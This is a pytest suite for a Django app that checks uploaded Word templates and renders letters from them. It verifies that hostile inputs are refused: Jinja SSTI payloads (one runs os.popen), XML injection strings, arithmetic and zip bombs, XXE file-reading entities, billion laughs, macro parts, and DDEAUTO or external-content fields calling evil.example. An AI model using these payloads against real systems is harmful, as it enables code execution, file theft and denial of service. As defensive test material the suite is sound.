"""Word templates: the upload checks and the one render helper (SPEC D10; CONTRACT.md "Word
template fields"; RELIABILITY.md 7–12). Every payload is built here at run time."""

from __future__ import annotations

import base64
import datetime
import io
import os
import time
import tracemalloc
import zipfile
from unittest import mock

import docx
import pytest
from django.contrib.auth.hashers import PBKDF2PasswordHasher
from django.contrib.auth.models import User
from django.utils import translation
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docxtpl import DocxTemplate
from jinja2.exceptions import SecurityError, TemplateError

from interactions import wordtemplates as wt
from interactions.merge_fields import sample_context
from interactions.sample_template import sample_letter_docx
from tests.interactions.docx_builders import (
    add_relationship,
    all_text,
    docx_bytes,
    member,
    paragraph_texts,
    rezip,
    with_body_xml,
    with_content_type,
    with_footnotes,
    with_hyperlink,
)

MB = 1024 * 1024
ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def context(**values) -> dict:
    """The sample line's fields with some changed: context(contact__name="X")."""
    ctx = sample_context()
    for key, value in values.items():
        head, _, attr = key.partition("__")
        if attr:
            ctx[head][attr] = value
        else:
            ctx[head] = value
    return ctx


def problems_of(data: bytes) -> str:
    return "\n".join(wt.template_problems(data))


@pytest.fixture(scope="module")
def sample() -> bytes:
    return sample_letter_docx()


# --- The sample letter and every field ------------------------------------------------------------


def test_the_sample_letter_is_a_valid_template_and_renders_every_part(sample):
    assert wt.template_problems(sample) == []
    out = wt.render_docx(sample, context(contact__name="Anna", address_block="Anna\nStreet 1\n1000 AB Town"))
    document = docx.Document(io.BytesIO(out))
    texts = [p.text for p in document.paragraphs]
    assert "Anna\nStreet 1\n1000 AB Town" in texts
    assert "Amsterdam, 14 March 2025" in texts
    assert "Dear Ms de Vries," in texts
    assert sample_context()["line"]["personal_text"] in texts
    assert document.sections[0].header.paragraphs[0].text.startswith("Cronus Marketing Ltd.\n5 The Ring")
    assert "1012 AB Amsterdam · Netherlands" in document.sections[0].footer.paragraphs[0].text
    assert document.core_properties.title == "Our new spring catalogue"
    assert document.core_properties.author == "John Olsen"


def test_the_personal_text_paragraph_disappears_when_the_line_has_none(sample):
    texts = paragraph_texts(wt.render_docx(sample, context(line__personal_text="")))
    assert "{%p endif %}" not in "".join(texts)
    assert len(texts) == len(paragraph_texts(wt.render_docx(sample, context()))) - 1


def test_every_allowed_field_renders():
    paths = list(wt.ALLOWED_FIELDS)
    template = docx_bytes(*(f"{path}=[{{{{ {path} }}}}]" for path in paths))
    assert wt.template_problems(template) == []
    values = {path.replace(".", "__"): f"V-{path}" for path in paths}
    values.update(line__date=datetime.date(2024, 1, 2), today=datetime.date(2024, 5, 6))
    texts = paragraph_texts(wt.prepare(template).render(context(**values)))
    expected = {path: f"V-{path}" for path in paths} | {"line.date": "2024-01-02", "today": "2024-05-06"}
    assert texts == [f"{path}=[{expected[path]}]" for path in paths]


def test_allowed_fields_are_the_contract_list_and_the_sample_line_fills_each():
    assert len(wt.ALLOWED_FIELDS) == 42
    assert all(field.description for field in wt.ALLOWED_FIELDS.values())
    assert {"address_block", "salutation_formal", "line.personal_text", "company.email", "today"} <= set(
        wt.ALLOWED_FIELDS
    )
    assert {"channel", "unsubscribe_url"} <= set(wt.ALLOWED_FIELDS)
    sample = sample_context()
    empty = {path for path in wt.ALLOWED_FIELDS if wt.field_text(path, sample) == ""}
    assert empty == {"unsubscribe_url"}  # empty in a letter


@pytest.mark.parametrize(
    ("tag", "values", "expected"),
    [
        ("{{ contact.surname|upper }}", {"contact__surname": "de Vries"}, "DE VRIES"),
        ("{{ contact.email|lower }}", {"contact__email": "A@X.COM"}, "a@x.com"),
        ("{{ contact.city|title }}", {"contact__city": "den haag"}, "Den Haag"),
        ("{{ contact.job_title|default('Sir or Madam') }}", {"contact__job_title": ""}, "Sir or Madam"),
        ("{{ contact.job_title|default(contact.name) }}", {"contact__job_title": "", "contact__name": "N"}, "N"),
        ("{{ contact.phone|replace(' ', '') }}", {"contact__phone": "+31 20 555"}, "+3120555"),
        ("{{ line.date|date('j F Y') }}", {"line__date": datetime.date(2025, 3, 4)}, "4 March 2025"),
        (
            "{{ contact.first_name ~ ' ' ~ contact.surname }}",
            {"contact__first_name": "A", "contact__surname": "B"},
            "A B",
        ),
        ("{% if line.correspondence_type == 'email' %}mail{% else %}post{% endif %}", {}, "post"),
        (
            "{{ contact.company_name if contact.company_name else contact.name }}",
            {"contact__company_name": ""},
            "Anna de Vries",
        ),
        ("[{{ line.personal_text|trim }}]", {"line__personal_text": "  x  "}, "[x]"),
    ],
)
def test_documented_filters_and_expressions_render(tag, values, expected):
    template = docx_bytes(tag)
    assert wt.template_problems(template) == []
    assert paragraph_texts(wt.render_docx(template, context(**values))) == [expected]


# --- RELIABILITY 7: SSTI is refused at upload, in every rendered part ----------------------------


def _ssti_payloads(canary) -> list[str]:
    return [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__.os.popen('touch " + str(canary) + "').read() }}",
    ]


@pytest.mark.parametrize("where", ["body", "header", "footer", "title"])
@pytest.mark.parametrize("which", [0, 1])
def test_ssti_is_refused_in_every_rendered_part(tmp_path, where, which):
    canary = tmp_path / "canary"
    payload = _ssti_payloads(canary)[which]
    template = {
        "body": lambda: docx_bytes(payload),
        "header": lambda: docx_bytes("Hello", header=payload),
        "footer": lambda: docx_bytes("Hello", footer=payload),
        "title": lambda: docx_bytes("Hello", title=payload),
    }[where]()
    problems = wt.template_problems(template)
    assert problems
    part = {"body": "word/document.xml", "header": "word/header", "footer": "word/footer", "title": "(title)"}[where]
    assert all(part in problem for problem in problems), problems
    assert all("forbidden expression" in p or "unknown field" in p for p in problems), problems
    with pytest.raises(wt.WordTemplateInvalid):
        wt.render_docx(template, context())
    assert not canary.exists()


def test_the_sandbox_blocks_ssti_even_without_the_static_check(tmp_path):
    canary = tmp_path / "canary"
    for payload in _ssti_payloads(canary):
        with pytest.raises(TemplateError):
            wt.ENV.from_string(payload).render(wt.plain_context(context()))
    with pytest.raises(TemplateError, match="has no attribute '__class__'"):
        wt.ENV.from_string("{{ x.__class__ }}").render(x="")  # reads dict keys only, never attributes
    assert not canary.exists()


# --- RELIABILITY 8: values are text, never XML ---------------------------------------------------

INJECTION = "X</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>INJECTED"


@pytest.mark.parametrize("name", ["Smith & <Sons>", INJECTION, "'quoted' \"double\""])
def test_values_are_escaped(name):
    template = docx_bytes("Dear {{ contact.name }}, regards")
    out = wt.render_docx(template, context(contact__name=name))
    document = docx.Document(io.BytesIO(out))
    paragraph = document.paragraphs[0]
    assert paragraph.text == f"Dear {name}, regards"
    assert len(paragraph.runs) == 1
    assert not any(run.bold for run in paragraph.runs)
    assert b"<w:b/>" not in member(out, "word/document.xml")


def test_property_values_are_plain_text():
    out = wt.render_docx(docx_bytes("x", title="{{ contact.name }}"), context(contact__name="Smith & <Sons>"))
    assert docx.Document(io.BytesIO(out)).core_properties.title == "Smith & <Sons>"


def test_line_breaks_in_values_become_line_breaks_and_control_characters_are_dropped():
    out = wt.render_docx(docx_bytes("{{ address_block }}"), context(address_block="A\r\nB\x07\x0cC\x00"))
    assert paragraph_texts(out) == ["A\nBC"]


# --- RELIABILITY 9: strict variables and an allow-listed context ---------------------------------


def test_a_misspelt_field_is_refused_naming_it():
    problems = wt.template_problems(docx_bytes("Dear {{ contact.fist_name }},"))
    assert problems == ['word/document.xml: unknown field "contact.fist_name"']


def test_a_path_through_a_relation_is_refused():
    problems = problems_of(docx_bytes("{{ contact.owner.password }}"))
    assert 'unknown field "contact.owner.password"' in problems


def test_rendering_never_reaches_attributes_of_objects():
    user = User(username="u", password=PBKDF2PasswordHasher().encode("secret", "salt1234"))
    assert user.password.startswith("pbkdf2")
    with pytest.raises(TypeError):
        wt.plain_context(context(contact=user))
    with pytest.raises(TypeError):
        wt.plain_context(context(contact__name=user))
    with pytest.raises(TemplateError):  # even when a caller bypasses plain_context
        out = wt.ENV.from_string("{{ contact.owner.password }}").render(contact={"owner": user})
        assert "pbkdf2" not in out


def test_unknown_and_missing_context_fields_are_errors():
    with pytest.raises(ValueError, match="user"):
        wt.plain_context(context(user="x"))
    with pytest.raises(ValueError, match="contact.owner"):
        wt.plain_context(context(contact__owner="x"))
    ctx = context()
    del ctx["today"]
    with pytest.raises(ValueError, match='"today" is missing'):
        wt.plain_context(ctx)


@pytest.mark.parametrize(
    ("tag", "expected"),
    [
        ("{% if contact.name %}{{ contact.fist_name }}{% endif %}", 'unknown field "contact.fist_name"'),
        ("{% if false %}{% else %}{{ ''.__class__ }}{% endif %}", "forbidden expression"),
        ("{% if false %}{{ line.personal_text|safe }}{% endif %}", 'unknown filter "safe"'),
        ("{{ contact }}", 'unknown field "contact"'),
        ("{{ contact._meta }}", "forbidden expression"),
        ("{{ contact['name'] }}", "forbidden expression (a subscript"),
        ("{{ contact.name.upper() }}", "forbidden expression (a call)"),
        ("{{ contact.name is defined }}", "forbidden expression (a test"),
        ("{{ [contact.name] }}", "forbidden expression (a list)"),
        ("{% for c in contact.name %}x{% endfor %}", "{% for %}"),
        ("{% set x = contact.name %}{{ x }}", "{% set %}"),
        ("{% include 'other.docx' %}", "{% include %}"),
        ("{% import 'm' as m %}", "{% import %}"),
        ("{% extends 'base' %}", "{% extends %}"),
        ("{% macro m() %}x{% endmacro %}", "{% macro %}"),
        ("{% filter upper %}x{% endfilter %}", "{% filter %}"),
        ("{% with a = 1 %}x{% endwith %}", "{% with %}"),
        ("{% autoescape false %}{{ contact.name }}{% endautoescape %}", "{% autoescape %}"),
        ("{{ contact.name|format(1) }}", 'unknown filter "format"'),
        ("{{ contact.name ", "template syntax error"),
    ],
)
def test_the_static_check_refuses(tag, expected):
    problems = problems_of(docx_bytes(tag))
    assert expected in problems
    assert problems.startswith("word/document.xml: ")


def test_problems_name_their_part():
    template = with_footnotes(
        docx_bytes("ok", header="{{ contact.a }}", footer="{{ contact.b }}", title="{{ contact.c }}"),
        "{{ contact.d }}",
    )
    problems = wt.template_problems(template)
    assert problems == [
        'word/header1.xml: unknown field "contact.a"',
        'word/footer1.xml: unknown field "contact.b"',
        'word/footnotes.xml: unknown field "contact.d"',
        'docProps/core.xml (title): unknown field "contact.c"',
    ]


def test_footnotes_are_rendered_once_so_values_are_never_read_as_tags():
    template = with_footnotes(docx_bytes("Body", sections=2), "Note {{ contact.name }}")
    assert wt.template_problems(template) == []
    out = wt.render_docx(template, context(contact__name="{{ company.name }}"))
    footnotes = member(out, "word/footnotes.xml").decode()
    assert "Note {{ company.name }}" in footnotes
    assert "Cronus" not in footnotes


# --- RELIABILITY 10: no CPU or memory bombs ------------------------------------------------------


@pytest.mark.parametrize(
    ("tag", "operator"),
    [
        ("{{ 'A' * 2000000000 }}", '"*"'),
        ("{{ 2 ** 1000000000 }}", '"**"'),
        ("{{ 10 ** 10 ** 10 }}", '"**"'),
        ("{{ contact.name * 100000000 }}", '"*"'),
        ("{{ contact.name + contact.name }}", '"+"'),
        ("{{ '%999999999s' % contact.name }}", '"%"'),
    ],
)
def test_arithmetic_is_refused_statically_and_by_the_sandbox(tag, operator):
    started = time.monotonic()
    problems = problems_of(docx_bytes(tag))
    assert f"forbidden expression (operator {operator})" in problems
    with pytest.raises(SecurityError):
        wt.ENV.from_string(tag).render(wt.plain_context(context()))
    assert time.monotonic() - started < 5


def test_nested_loops_cannot_be_written():
    """No `for`, no calls: two nested range(100000) loops are refused before any render."""
    tag = "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}"
    problems = problems_of(docx_bytes(tag))
    assert "{% for %}" in problems
    assert "range" not in wt.ENV.globals


def test_a_filter_cannot_grow_a_value_without_bound():
    template = docx_bytes("{{ line.personal_text|replace('', 'xxxxxxxxxx')|replace('', 'xxxxxxxxxx') }}")
    prepared = wt.prepare(template)
    with pytest.raises(wt.LetterRenderError, match="forbidden expression"):
        prepared.render(context(line__personal_text="a" * 2000))


def test_values_have_a_maximum_length():
    with pytest.raises(ValueError, match="line.personal_text"):
        wt.plain_context(context(line__personal_text="x" * (wt.MAX_VALUE_CHARS + 1)))


def test_too_many_tags_are_refused():
    problems = problems_of(docx_bytes("{{ today }}" * (wt.MAX_TAGS + 1)))
    assert f"over the limit of {wt.MAX_TAGS:,}" in problems


def test_unclosed_tags_cannot_stall_the_check():
    started = time.monotonic()
    problems = problems_of(docx_bytes("{{ " * 200_000))
    assert "unclosed template tags" in problems
    assert time.monotonic() - started < 10


# --- RELIABILITY 11: container limits, checked before python-docx / docxtpl -----------------------


def _zip_bomb() -> bytes:
    """About 340 KB that unpacks to 300 MB (one part of spaces)."""
    base = docx_bytes("Hello")
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info))
        with dst.open("word/media/filler.xml", "w") as filler:
            chunk = b" " * MB
            for _ in range(300):
                filler.write(chunk)
    return out.getvalue()


def _three_million_paragraphs() -> bytes:
    return with_body_xml(docx_bytes("x"), "<w:p/>" * 3_000_000)


def _too_many_parts() -> bytes:
    return rezip(docx_bytes("x"), add={f"word/media/image{i}.png": b"\x89PNG" for i in range(301)})


def _over_five_mb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx_bytes("x"))) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        dst.writestr("word/media/noise.bin", os.urandom(5 * MB))
    return out.getvalue()


CONTAINER_CASES = {
    "zip bomb": (_zip_bomb, "unpacks to 3"),
    "3M paragraphs": (_three_million_paragraphs, "suspicious compression"),
    "over 300 parts": (_too_many_parts, "over the limit of 300"),
    "over 5 MB": (_over_five_mb, "over the limit of 5.0 MB"),
    "not a zip": (lambda: b"%PDF-1.7 not a zip at all", "not a zip package"),
    "empty": (lambda: b"", "not a zip package"),
}


@pytest.mark.parametrize("case", list(CONTAINER_CASES))
def test_container_limits_are_checked_before_the_document_is_opened(case):
    build, expected = CONTAINER_CASES[case]
    data = build()
    if case == "zip bomb":
        assert 250_000 < len(data) < 400_000
    with (
        mock.patch("docx.Document", side_effect=AssertionError("python-docx was called")) as opened,
        mock.patch.object(wt, "DocxTemplate", side_effect=AssertionError("docxtpl was called")) as templated,
    ):
        tracemalloc.start()
        try:
            problems = wt.template_problems(data)
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
    assert expected in "\n".join(problems), problems
    opened.assert_not_called()
    templated.assert_not_called()
    assert peak < 100 * MB
    with pytest.raises(wt.WordTemplateInvalid):
        wt.prepare(data)


def test_a_rendered_part_over_its_own_limit_is_refused():
    text = base64.b64encode(os.urandom(4_700_000)).decode()  # hardly compressible: no ratio problem
    template = with_body_xml(docx_bytes("x"), f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")
    assert len(template) < wt.MAX_FILE_BYTES
    assert "word/document.xml: 6.0 MB, over the limit of 5.0 MB" in wt.check_package(template)


def test_a_zip_directory_that_understates_sizes_cannot_make_the_check_unpack_more():
    """zipfile reads no more than a part's declared size, then fails its CRC check."""
    data = bytearray(rezip(docx_bytes("x"), add={"word/media/big.xml": b"<a>" + b" " * (50 * MB) + b"</a>"}))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = zf.getinfo("word/media/big.xml")
    local = info.header_offset
    data[local + 22 : local + 26] = (1000).to_bytes(4, "little")
    central = bytes(data).rindex(b"PK\x01\x02", 0, bytes(data).index(b"PK\x05\x06"))
    while bytes(data[central + 46 : central + 46 + len(b"word/media/big.xml")]) != b"word/media/big.xml":
        central = bytes(data).rindex(b"PK\x01\x02", 0, central)
    data[central + 24 : central + 28] = (1000).to_bytes(4, "little")
    tracemalloc.start()
    try:
        problems = wt.check_package(bytes(data))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert problems  # the part is read as XML and its CRC fails, or it is not XML
    assert peak < 100 * MB


# --- RELIABILITY 12: XML and active-content attacks ----------------------------------------------


def _with_doctype(data: bytes, name: str, doctype: str, text: str) -> bytes:
    xml = member(data, name).decode()
    declaration_end = xml.index("?>") + 2
    xml = xml[:declaration_end] + doctype + xml[declaration_end:]
    if text:
        xml = xml.replace("<w:t>PLACEHOLDER</w:t>", f"<w:t>{text}</w:t>")
    return rezip(data, replace={name: xml.encode()})


def test_xxe_never_reaches_the_output(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET-4711")
    doctype = f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file://{secret}">]>'
    template = _with_doctype(docx_bytes("PLACEHOLDER"), "word/document.xml", doctype, "&xxe;")
    problems = problems_of(template)
    assert "invalid template: word/document.xml declares a DTD" in problems
    assert "TOPSECRET" not in problems
    with pytest.raises(wt.WordTemplateInvalid) as raised:
        wt.render_docx(template, context())
    assert "TOPSECRET" not in str(raised.value)


def test_xxe_in_a_relationships_part_is_refused(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET-4711")
    doctype = f'<!DOCTYPE Relationships [<!ENTITY xxe SYSTEM "file://{secret}">]>'
    template = _with_doctype(docx_bytes("x"), "_rels/.rels", doctype, "")
    assert "invalid template: _rels/.rels declares a DTD" in problems_of(template)


def test_billion_laughs_is_an_invalid_template():
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10)
    )
    template = _with_doctype(
        docx_bytes("PLACEHOLDER"), "word/document.xml", f"<!DOCTYPE w:document [{entities}]>", "&lol9;"
    )
    started = time.monotonic()
    problems = wt.template_problems(template)
    assert problems and all(problem.startswith("invalid template") for problem in problems)
    assert time.monotonic() - started < 5


def test_a_macro_enabled_document_is_refused():
    template = with_content_type(
        docx_bytes("x"), "/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    assert "macros and active content are not allowed" in problems_of(template)


def test_a_vba_project_part_is_refused():
    template = rezip(docx_bytes("x"), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 100})
    assert "word/vbaProject.bin: macros are not allowed" in problems_of(template)


def test_an_external_image_is_refused():
    template, _ = add_relationship(docx_bytes("x"), RT.IMAGE, "http://evil.example/x.png", external=True)
    problems = problems_of(template)
    assert (
        "word/_rels/document.xml.rels: external content is not allowed (image → http://evil.example/x.png)" in problems
    )


def test_an_external_attached_template_is_refused():
    template, _ = add_relationship(
        docx_bytes("x"), ATTACHED_TEMPLATE, "http://evil.example/t.dotm", external=True, source="word/settings.xml"
    )
    assert "external content is not allowed (attachedTemplate" in problems_of(template)


FIELD = '<w:p><w:fldSimple w:instr="{instr}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
SPLIT_FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {a}</w:instrText></w:r>'
    '<w:r><w:instrText xml:space="preserve">{b}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    '<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


@pytest.mark.parametrize(
    "body",
    [
        FIELD.format(instr=" INCLUDEPICTURE &quot;http://evil.example/x.png&quot; \\d "),
        FIELD.format(instr=" INCLUDETEXT &quot;C:\\\\secret.docx&quot; "),
        FIELD.format(instr=" LINK Excel.Sheet.8 &quot;http://evil.example/x.xls&quot; "),
        FIELD.format(instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "),
        SPLIT_FIELD.format(a="INCLUDE", b='PICTURE "http://evil.example/x.png"'),
        SPLIT_FIELD.format(a="LI", b='NK Word.Document.12 "x.docx"'),
    ],
)
def test_fields_that_load_content_are_refused(body):
    problems = problems_of(with_body_xml(docx_bytes("x"), body))
    assert "word/document.xml: the field" in problems
    assert "loads content from outside the document" in problems


def test_a_hyperlink_is_accepted():
    template = with_hyperlink(docx_bytes("Visit us"), "https://www.example.com/spring", "our site")
    assert wt.template_problems(template) == []
    field = SPLIT_FIELD.format(a="HYPERLINK", b=' "https://www.example.com"')
    assert wt.template_problems(with_body_xml(template, field)) == []


# --- The render helper --------------------------------------------------------------------------


def test_a_prepared_template_renders_many_letters_without_leaking_values(sample):
    prepared = wt.prepare(sample)
    first = prepared.render(context(salutation_formal="Dear Mr First"))
    second = prepared.render(context(salutation_formal="Dear Ms Second"))
    assert "Dear Mr First," in paragraph_texts(first)
    assert "Dear Ms Second," in paragraph_texts(second)
    assert "First" not in all_text(second)


def test_a_letter_is_a_complete_package_with_the_templates_parts(sample):
    out = wt.prepare(sample).render(context())
    with zipfile.ZipFile(io.BytesIO(out)) as letter, zipfile.ZipFile(io.BytesIO(sample)) as template:
        assert letter.testzip() is None
        assert letter.namelist() == template.namelist()
        assert letter.read("word/styles.xml") == template.read("word/styles.xml")


def test_letters_match_docxtpls_own_rendering(sample):
    tpl = DocxTemplate(io.BytesIO(sample))
    tpl.render(wt.plain_context(context()), jinja_env=wt.ENV)
    theirs_bytes = io.BytesIO()
    tpl.save(theirs_bytes)
    theirs = docx.Document(theirs_bytes)
    ours = docx.Document(io.BytesIO(wt.render_docx(sample, context())))
    assert [p.text for p in ours.paragraphs] == [p.text for p in theirs.paragraphs]
    for name in ("header", "footer"):
        assert [p.text for p in getattr(ours.sections[0], name).paragraphs] == [
            p.text for p in getattr(theirs.sections[0], name).paragraphs
        ]
    for prop in ("title", "author", "subject"):
        assert getattr(ours.core_properties, prop) == getattr(theirs.core_properties, prop)


def test_a_date_format_asking_for_a_time_fails_the_trial_render():
    problems = problems_of(docx_bytes("{{ today|date('H:i') }}"))
    assert "the trial render with sample data failed" in problems


def test_rendered_body_is_available_for_combining_letters(sample):
    letter = wt.prepare(sample).render_parts(context(salutation_formal="Dear Combined"))
    assert letter.body.startswith("<w:body")
    assert "Dear Combined," in letter.body
    assert set(letter.parts) == {"word/document.xml", "word/header1.xml", "word/footer1.xml", "docProps/core.xml"}


def test_render_docx_prepares_a_template_once_for_many_letters():
    template = docx_bytes("Dear {{ contact.first_name }} ({{ today }})")
    with mock.patch.object(wt, "prepare", wraps=wt.prepare) as prepared:
        first = wt.render_docx(template, context(contact__first_name="One"))
        second = wt.render_docx(template, context(contact__first_name="Two"))
    assert prepared.call_count == 1
    assert paragraph_texts(first) == ["Dear One (2025-03-14)"]
    assert paragraph_texts(second) == ["Dear Two (2025-03-14)"]


def test_an_svg_image_with_a_dtd_is_not_parsed():
    svg = b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd"><svg/>'
    template = rezip(docx_bytes("x"), add={"word/media/logo.svg": svg})
    types = member(template, "[Content_Types].xml").replace(
        b"</Types>", b'<Default Extension="svg" ContentType="image/svg+xml"/></Types>'
    )
    template = rezip(template, replace={"[Content_Types].xml": types})
    assert wt.check_package(template) == []


def test_a_size_in_megabytes_is_rounded_not_cut_off():
    assert wt._mb(int(5.96 * wt.MB)) == "6.0 MB"
    assert wt._mb(int(5.94 * wt.MB)) == "5.9 MB"


def test_the_date_filter_names_months_in_the_letters_language_and_explains_in_the_readers():
    template = docx_bytes("{{ today|date('j F Y') }}")
    march = context(today=datetime.date(2026, 3, 5))
    with translation.override("fi"):  # whoever renders reads Finnish
        assert paragraph_texts(wt.render_docx(template, march, language="da")) == ["5 marts 2026"]
        assert paragraph_texts(wt.render_docx(template, march, language="de")) == ["5 März 2026"]
        assert paragraph_texts(wt.render_docx(template, march)) == ["5 maaliskuu 2026"]  # no language: the active
    with translation.override("da"), pytest.raises(wt.LetterRenderError) as failed:
        wt.render_docx(docx_bytes("{{ today|date('H:i') }}"), march, language="fi")
    assert str(failed.value).startswith('datoformat "H:i"')  # the reason in the reader's language
